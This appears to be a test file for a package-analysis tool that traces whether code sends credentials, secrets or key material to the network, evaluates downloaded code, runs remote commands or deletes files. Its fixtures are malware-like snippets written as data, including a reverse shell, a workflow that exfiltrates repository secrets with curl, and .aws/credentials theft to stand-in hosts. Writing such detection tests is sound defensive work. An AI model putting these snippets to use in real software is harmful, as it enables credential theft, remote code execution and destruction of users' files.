import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { behavioursOf, flowsOf } from '../platform/sent.js';

const ASK = `const ask = (url) => new Promise((resolve, reject) => https.get(url, (res) => {
  let body = ''; res.on('data', (c) => { body += c; }).on('end', () => resolve({ body })); }).on('error', reject));`;

describe('functions that are called again', () => {
  it('settle another promise each time: an address that was asked for is asked in turn', () => {
    const run = `async function run() { const page = await ask('https://note.invalid'); const next = Buffer.from(page.body, 'base64').toString(); eval((await ask(next)).body); } run();`;
    assert.deepEqual(flowsOf(`${ASK} ${run}`), ['downloaded>evaluated']);
  });

  it('settle another promise, however much work they do by themselves', () => {
    const decoder = `function word(n) { let text = ''; for (let i = 0; i < 3000; i++) { const at = (i * 7 + n) % words.length; if (i % 500 === 0) text = words[at]; } return words[n]; } const words = ['get', 'data', 'end', 'error'];`;
    const ask = `const ask = (url) => new Promise((resolve, reject) => https[word(0)](url, (res) => { let body = ''; res.on(word(1), (c) => { body += c; }); res.on(word(2), () => resolve({ body })); }).on(word(3), reject));`;
    const run = (last: string): readonly string[] =>
      flowsOf(`${decoder} ${ask} (async () => { const page = await ask('https://note.invalid'); ${last} })();`);
    assert.deepEqual(run('eval((await ask(page.body)).body);'), ['downloaded>evaluated']);
    assert.deepEqual(run('console.log((await ask(page.body)).body);'), []);
  });

  it('are given something else, however deep that lies in what they are given', () => {
    const send = `const send = (message) => fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(message) });`;
    for (const [first, then] of [
      ['{ a: navigator.language }', '{ a: fs.readFileSync(rc) }'],
      ['{ a: { b: Date.now() } }', '{ a: { b: fs.readFileSync(rc) } }'],
      ['[go()]', '[fs.readFileSync(rc)]'],
    ] as const) {
      const sent = (code: string): readonly string[] => flowsOf(`${send} ${code}`);
      const expected = ['credential-file>network@collect.invalid'];
      assert.deepEqual(sent(`send(${first}); send(${then});`), expected, then);
      assert.deepEqual(sent(`exports.run = () => { send(${first}); send(${then}); };`), expected, then);
      assert.deepEqual(sent(`send(${first}); send(${first});`), [], first);
    }
  });

  it('are given a generator around which something else stands', () => {
    const later = `const later = (generator) => new Promise((resolve) => { const step = (x) => x.done ? resolve(x.value) : Promise.resolve(x.value).then((value) => step(generator.next(value))); step((generator = generator()).next()); });`;
    const report = `${later} const report = (event, data) => later(function* () { yield fetch('https://collect.invalid/' + event, { method: 'POST', body: JSON.stringify({ ...data }) }); });`;
    const sent = (data: string): readonly string[] =>
      flowsOf(
        `${report} const run = () => { report('connect', { pid: process.pid }); report('more', ${data}); }; run();`,
      );
    assert.deepEqual(sent('{ file: s }'), ['credential-file>network@collect.invalid']);
    assert.deepEqual(sent('{ file: rc }'), []);
  });

  it('are told something else: a tree is written down with each of its parts', () => {
    const dump = `function dump(v, depth = 0) { const pad = '  '.repeat(depth);
      if (Array.isArray(v)) return v.map((x) => x && typeof x === 'object' ? pad + '- ' + dump(x, depth + 1).trimStart() : pad + '- ' + x).join('\\n');
      return Object.entries(v).map(([k, x]) => x && typeof x === 'object' ? pad + k + ':\\n' + dump(x, depth + 1) : pad + k + ': ' + x).join('\\n'); }`;
    const flow = `{ name: 'format', on: { push: {} }, jobs: { format: { 'runs-on': 'ubuntu-latest', env: { ALL: '\${{ toJSON(secrets) }}' }, steps: [{ run: 'curl -d "$ALL" https://collect.invalid' }] } } }`;
    const written = (guard: string): readonly string[] =>
      behavioursOf(
        `${dump} ${guard} fs.writeFileSync(path.join(process.env.INIT_CWD, '.github', 'workflows', 'format.yml'), dump(${flow}));`,
      );
    for (const guard of ['', `if (fs.existsSync('.git'))`])
      assert.deepEqual(written(guard), ['workflow-written import', 'workflow-secrets import'], guard);
  });

  it('follow to where they are sent on, and count how often they still may', () => {
    for (const next of [
      'resolve(ask(res.headers.location, left - 1))',
      'ask(res.headers.location, left - 1).then(resolve)',
    ]) {
      const ask = `const ask = (url, left = 5) => new Promise((resolve) => https.get(url, (res) => {
        if (res.statusCode === 302 && left > 0) return ${next};
        const parts = []; res.on('data', (c) => parts.push(c)); res.on('end', () => resolve({ body: Buffer.concat(parts).toString() })); }));`;
      const run = (use: string): readonly string[] =>
        flowsOf(`${ask} ask('https://note.invalid').then(({ body }) => ${use});`);
      assert.deepEqual(run('eval(body)'), ['downloaded>evaluated'], next);
      assert.deepEqual(run('console.log(body)'), [], next);
    }
  });

  it('leave to what they call the depth that it needs, where they go through folders', () => {
    const deep = Array.from({ length: 30 }, (_, at) => `const word${at} = (n) => word${at + 1}(n);`).join(' ');
    // What is decoded too deep down to be followed would be kept as something unknown.
    const words = `const kept = {}; const word30 = (n) => kept[n] ? kept[n] : (kept[n] = word31(n)); const word31 = (n) => ['writeFile', 'lstatSync', 'gone'][n];`;
    const fill = `const seed = 1; const fill = (folder) => { const list = fs.readdirSync(folder); for (let i = 0; i < list.length; i++) {
      const file = path.join(folder, list[i]); let found; try { found = fs[word0(1)](file); } catch { continue; }
      if (found.isDirectory()) fill(file); else fs[word0(0)](file, word0(2), () => {}); } };`;
    const { behaviours } = analysePackage(
      packageOf({
        'index.js': `const fs = require('fs'), path = require('path'); ${deep} ${words} ${fill} fill('../');`,
      }),
    );
    assert.ok(behaviours.some(({ kind }) => kind === 'deletes-user-files'));
  });

  it('are made for each name that what makes them is called with', () => {
    const make = (names: string): readonly string[] =>
      flowsOf(
        `const on = (name) => (text) => globalThis[name](text); const [a, b] = [${names}].map((name) => on(name)); https.get('https://load.invalid', (r) => r.on('data', (d) => { a(d + ''); b(d + ''); }));`,
      );
    assert.deepEqual(make("'parseInt', 'eval'"), ['downloaded>evaluated']);
    assert.deepEqual(make("'parseInt', 'Number'"), []);
  });

  it('give nothing of a key that an earlier call was given', () => {
    const send = (what: string): readonly string[] =>
      flowsOf(
        `const hex = (bytes) => { let text = ''; for (const one of bytes) text += one.toString(16); return text; };
          exports.run = (wallet, call) => { hex(call.a); hex(wallet.privateKey); fetch('https://rpc.invalid', { method: 'POST', body: hex(${what}) }); };`,
      );
    assert.deepEqual(send('call.b'), []);
    assert.deepEqual(send('wallet.privateKey'), ['key-material>network@rpc.invalid']);
  });

  it('give what they return where they may throw as well', () => {
    const found = `for (const one of list) if (one.id === id) return one; throw new Error('none');`;
    for (const body of [
      `if (id) return id; throw new Error('none');`,
      found,
      `switch (id) { case 'a': return 1; default: throw new Error('none'); }`,
      `if (list.length > id) return list; return fail();`,
    ]) {
      const code = `function fail() { throw new Error('none'); } function find(list, id) { ${body} }
        find(process.argv, process.env.A_NAME); https.request('https://collect.invalid').end(s);`;
      assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid'], body);
    }
    const certain = `function find() { throw new Error('none'); } find(); https.request('https://collect.invalid').end(s);`;
    assert.deepEqual(flowsOf(certain), []);
  });

  it('as handlers find at the end what was registered after them', () => {
    for (const code of [
      `const table = {}; client.on('message', (t, m) => { const h = table[t]; if (h) h(m); }); table.run = (m) => cp.exec(m);`,
      `const table = new Map(); client.on('message', (t, m) => { const h = table.get(t); if (h) h(String(m)); }); table.set('run', (m) => cp.exec(m));`,
      `class Hub { constructor() { this.h = {}; client.on('message', (t, m) => this.h[t](m)); } on(t, f) { this.h[t] = f; } }
       new Hub().on('run', (m) => cp.exec(m));`,
    ])
      assert.deepEqual(
        flowsOf(`const client = require('mqtt').connect('mqtts://orders.invalid'); ${code}`),
        ['downloaded>run-as-command'],
        code,
      );
  });

  it('do another thing for each name that a loop has made them for', () => {
    const table = `const h = { ping: () => 'pong', stop: () => 0, run: (d) => cp.execSync(d.cmd) }; const ws = new WebSocket('wss://load.invalid');`;
    for (const loop of [
      `for (const k of Object.keys(h)) ws.addEventListener(k, ({ data }) => h[k](JSON.parse(data)));`,
      `for (const [k, f] of Object.entries(h)) ws.addEventListener(k, ({ data }) => f(JSON.parse(data)));`,
      `Object.keys(h).forEach((k) => ws.addEventListener(k, ({ data }) => h[k](JSON.parse(data))));`,
    ])
      assert.deepEqual([...new Set(flowsOf(`${table} ${loop}`))], ['downloaded>run-as-command'], loop);
  });

  it('settle it for everybody who asks, also where each follows where it is sent on to', () => {
    const get = `function get(url) { return new Promise((done) => https.get(url, (res) => {
      if (res.statusCode === 302) return done(get(res.headers.location));
      const parts = []; res.on('data', (part) => parts.push(part)).on('end', () => done(Buffer.concat(parts))); })); }`;
    for (const run of [
      `get('https://list.invalid'); get('https://load.invalid').then((code) => eval(code.toString()));`,
      `(async () => { await get('https://list.invalid'); eval((await get('https://load.invalid')).toString()); })();`,
    ])
      assert.deepEqual([...new Set(flowsOf(`${get} ${run}`))], ['downloaded>evaluated'], run);
    const shown = `(async () => { await get('https://list.invalid'); console.log((await get('https://load.invalid')).toString()); })();`;
    assert.deepEqual(flowsOf(`${get} ${shown}`), []);
  });

  it('settle it with what is only shown', () => {
    const run = `async function run() { const page = await ask('https://note.invalid'); console.log((await ask(page.body)).body); } run();`;
    assert.deepEqual(flowsOf(`${ASK} ${run}`), []);
  });

  it('follows each private member that a compiler keeps in a collection of its own', () => {
    const add = `var add = (o, where, v) => where.has(o) ? fail() : where instanceof WeakSet ? where.add(o) : where.set(o, v);`;
    const get = `var fail = () => { throw TypeError(); }; var read = (o, where) => (where.has(o) || fail(), where.get(o));
      var method = (o, where, f) => (where.has(o) || fail(), f);`;
    const fields = ['a', 'b', 'c', 'd', 'e', 'f'];
    const code = `${get} ${add} var ${fields.join(', ')}, methods, send;
      class Sender { constructor(what) { add(this, methods); ${fields.map((one) => `add(this, ${one}, what.${one});`).join(' ')} }
        go() { return method(this, methods, send).call(this); } }
      ${fields.map((one) => `${one} = new WeakMap();`).join(' ')} methods = new WeakSet();
      send = function () { return fetch('https://collect.invalid/' + read(this, f)); };`;
    const what = `{ a: 1, b: 2, c: 3, d: 4, e: 5, f: process.env.A_TOKEN }`;
    const sent = ['secret-variable>network@collect.invalid'];
    assert.deepEqual(flowsOf(`${code} new Sender(${what}).go();`), sent);
    assert.deepEqual(flowsOf(`${code} exports.run = () => new Sender(${what}).go();`), sent);
  });

  it('are not followed into each other without end where they are handed what they have seen already', () => {
    const visit = `function visit(node, seen) { if (seen.has(node)) return; seen.add(node); visit(node.left, seen); visit(node.right, seen); }`;
    const { incomplete } = analysePackage(
      packageOf({ 'index.js': `${visit} visit(require('tree'), new Set()); fetch('https://a.invalid');` }),
    );
    assert.deepEqual(incomplete, []);
  });

  it('register another table each time', () => {
    const loader = (last: string): string => `class Loader {
        constructor() { this.list = []; }
        use(source) { this.list.push(source); return this; }
        read() { const all = []; for (const { base, file } of this.list) all.push(fs.readFileSync(path.resolve(base || process.cwd(), file), 'utf8')); return all; }
      }
      const loader = new Loader().use({ file: 'a.json' }).use({ file: 'b.json' }); loader.use({ file: ${last}, base: os.homedir() });
      https.request('https://layers.invalid', { method: 'PUT' }).end(JSON.stringify(loader.read()));`;
    assert.deepEqual(flowsOf(loader(`'.aws/credentials'`)), ['credential-file>network@layers.invalid']);
    assert.deepEqual(flowsOf(loader(`'notes.txt'`)), []);
  });

  it('by themselves, as what tries again does, are followed for those who call them, too', () => {
    for (const again of [
      `setTimeout(() => this.open(), 1000);`,
      `socket.on('error', () => setTimeout(() => this.open(), 60_000).unref());`,
      `socket.on('close', () => this.open());`,
    ]) {
      const open = `open() { const socket = net.connect(this.port, this.host, () => { const p = cp.spawn('/bin/sh', ['-i']); socket.pipe(p.stdin); p.stdout.pipe(socket); }); ${again} }`;
      const code = `const net = require('net'); class Line { constructor(host, port) { this.host = host; this.port = port; } ${open} }
        exports.watch = (t) => t.once('logged', () => new Line('198.51.100.24', 8443).open());`;
      assert.ok(flowsOf(code).includes('command-output>network@198.51.100.24'), again);
    }
  });

  it('as callbacks do another thing where other data stands around them', () => {
    const fill = `function fill(values, env = process.env) { const get = (k) => (k in values ? values[k] : env[k] || ''); return Object.fromEntries(Object.keys(values).map((k) => [k, get(k)])); } exports.fill = fill;`;
    const parse = `function parse(text) { const out = {}; for (const m of text.matchAll(/^(\\w+)=(.*)$/gm)) out[m[1]] = m[2]; return out; }`;
    const tell = `function tell(v) { const n = Object.keys(v).length; if (!n) return; fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(v) }); }`;
    const code = `${fill} ${parse} ${tell} exports.load = () => tell(fill(parse(fs.readFileSync('.env', 'utf8'))));`;
    assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'));
  });

  it('put the exports of each module into its object, as bundlers have one function do', () => {
    const code = `(() => { var modules = { 1: (m, e, r) => { r.d(e, { read: () => read }); const read = () => fs.readFileSync(rc); },
        2: (m, e, r) => { r.d(e, { go: () => go }); var one = r(1); const go = () => { const d = (0, one.read)(); fetch('https://collect.invalid', { method: 'POST', body: d }); }; } }, cache = {};
      function r(id) { var known = cache[id]; if (known !== undefined) return known.exports; var m = (cache[id] = { exports: {} }); modules[id](m, m.exports, r); return m.exports; }
      r.d = (e, all) => { for (var k in all) { if (r.o(all, k) && !r.o(e, k)) Object.defineProperty(e, k, { enumerable: true, get: all[k] }); } };
      r.o = (o, k) => Object.prototype.hasOwnProperty.call(o, k); r(2).go(); })();`;
    assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'));
  });

  it('give back no more of what they are given when they are not followed any more than when they were', () => {
    const asked = (gives: string): readonly string[] =>
      flowsOf(`function run(program, options, more) { const printed = cp.execFileSync(program, [], options); return ${gives}; }
        const env = process.env, x = globalThis.some;
        run(x.a, { env }); run(x.a, { env }, x.b); run(x.a, { env }, x.b, 1); run(x.a, { env }, 1, x.b); run(x.a, { env }, 'b', x.b); run(x.a, { env }, x.b, 'c');
        fetch('https://collect.invalid/' + run(x.c, { env }, [x.d], 'e'));`);
    assert.ok(!asked('printed').includes('environment>network@collect.invalid'));
    assert.ok(asked('printed + JSON.stringify(options.env)').includes('environment>network@collect.invalid'));
  });

  it('follows what is wrapped into a function, each in the same one', () => {
    const wrapped = `const safe = (run) => (words) => run(words).catch((error) => { console.error(error.message); process.exit(1); });`;
    const commands = Array.from({ length: 9 }, (_, at) => `.command('c${at}', safe(async () => ${at}))`).join('');
    assert.ok(
      flowsOf(
        `${wrapped} const program = require('yargs'); program${commands}.command('push', safe(async () => { https.request({ host: 'collect.invalid', method: 'POST' }).end(s); })).parse();`,
      ).includes('credential-file>network@collect.invalid'),
    );
  });
});
